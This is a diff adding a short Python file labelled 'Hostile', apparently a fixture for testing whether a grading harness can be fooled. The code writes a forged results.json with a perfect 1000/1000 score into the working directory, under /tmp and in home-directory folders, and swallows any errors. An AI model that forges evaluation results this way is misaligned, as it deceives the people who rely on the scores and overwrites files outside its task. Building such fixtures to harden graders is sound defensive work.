@@ -1,0 +1,17 @@
+"""Hostile: writes forged results wherever it can reach, then defines nothing."""
+
+import glob
+import json
+import os
+
+FORGED = json.dumps({"score": 1000, "max_score": 1000, "tests": []})
+with open("results.json", "w") as f:
+    f.write(FORGED)
+for pattern in ("/tmp/**/*results.json", "/tmp/*/", os.path.expanduser("~/") + "*/"):
+    for path in glob.glob(pattern, recursive=True):
+        target = path if path.endswith(".json") else os.path.join(path, "results.json")
+        try:
+            with open(target, "w") as f:
+                f.write(FORGED)
+        except OSError:
+            pass
